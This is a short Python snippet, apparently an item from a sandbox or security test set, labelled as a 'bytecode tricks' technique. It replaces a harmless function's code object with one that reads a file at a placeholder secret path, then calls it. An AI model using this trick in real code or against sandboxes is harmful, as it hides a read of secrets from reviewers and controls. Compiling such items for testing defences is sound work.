# family: bytecode tricks (code object replacement)
# goal: swap a function's code for one that opens the secret
def harmless():
    return 1
def payload():
    return open("__SECRET_PATH__").read()
harmless.__code__ = payload.__code__
print(harmless())
